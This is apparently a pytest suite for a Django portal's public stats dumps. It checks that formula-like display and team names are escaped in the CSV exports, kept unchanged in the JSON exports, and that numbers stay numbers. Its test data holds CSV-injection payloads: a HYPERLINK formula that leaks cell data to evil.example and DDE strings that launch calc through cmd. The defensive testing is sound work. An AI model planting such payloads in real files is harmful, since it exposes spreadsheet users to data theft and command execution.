"""Names people choose reach the public stats dumps' CSV as text a spreadsheet shows, never as a
formula it runs; figures stay figures; and no CSV is written around portal/csv_export.py."""

import csv
import datetime
import gzip
import io
import json
import re
from pathlib import Path

import pytest
from django.conf import settings

from accounts.models import Team
from portal.csv_export import FORMULA_STARTS, csv_text
from runs.credit.exports import stats_dump
from runs.models import TeamCredit, VolunteerCredit

DAY = datetime.date(2026, 3, 1)
LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"claim your credit")'
COMMAND = "=1+cmd|' /C calc'!A0"
# One name per character that starts a formula: each must come out as text.
NAMES = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _rows(folder: Path, name: str) -> list[dict]:
    content = gzip.decompress((folder / name).read_bytes()).decode()
    return json.loads(content) if name.endswith(".json.gz") else list(csv.DictReader(io.StringIO(content, newline="")))


@pytest.fixture
def dump(world):
    """vik, with credit in the public run, and his team named like formulas; the day's dump written."""

    def write(display_name: str) -> Path:
        vik = world.users["vik"]
        vik.display_name = display_name
        vik.save(update_fields=["display_name"])
        team = Team.objects.get(slug=world.values["team"])
        Team.objects.filter(pk=team.pk).update(name=COMMAND)
        VolunteerCredit.objects.update_or_create(user=vik, defaults={"credit": 112.0, "credit_verified": 112.0})
        TeamCredit.objects.update_or_create(team=team, defaults={"credit": 112.0, "credit_verified": 112.0})
        return stats_dump(day=DAY)

    return write


@pytest.mark.parametrize("display_name", NAMES)
def test_a_display_name_that_starts_a_formula_is_text_in_the_csv_dumps(dump, display_name):
    folder = dump(display_name)
    (user,) = _rows(folder, "users.csv.gz")
    (credit,) = _rows(folder, "runs.csv.gz")
    assert user["name"] == credit["name"] == "'" + display_name
    assert user["team"] == "'" + COMMAND
    assert [team["name"] for team in _rows(folder, "teams.csv.gz")] == ["'" + COMMAND]
    for kind in ("users", "teams", "runs", "evaluations"):
        for row in _rows(folder, f"{kind}.csv.gz"):
            assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)], (kind, row)


def test_the_json_dumps_keep_the_names_as_chosen(dump):
    """JSON is read by programs, which run nothing: the names stay exactly what people chose."""
    folder = dump(LINK)
    (user,) = _rows(folder, "users.json.gz")
    assert (user["name"], user["team"]) == (LINK, COMMAND)


def test_figures_stay_numbers_negative_ones_included():
    text = csv_text([{"name": "-1", "credit": -2.5, "samples": -3, "machines": 0}])
    assert text.splitlines() == ["name,credit,samples,machines", "'-1,-2.5,-3,0"]


# Where the portal's code lives (bench/ and harness/ are tools that write their own measurements).
PORTAL_PACKAGES = ("accounts", "portal", "runs")
# Files that write CSV that is no export for people, and why.
NOT_FOR_SPREADSHEETS = {
    # The demo's labelled sets, which the probe reader (runs/setup/probes.py) reads back as the
    # examples a probe trains on: a quote before a cell would become part of the example's text.
    "runs/setup/labelled.py",
}


def test_every_csv_the_portal_writes_goes_through_csv_export():
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    root = Path(settings.BASE_DIR)
    found = {
        str(path.relative_to(root))
        for package in PORTAL_PACKAGES for path in (root / package).rglob("*.py")
        if writers.search(path.read_text())
    }
    assert found - NOT_FOR_SPREADSHEETS == {"portal/csv_export.py"}
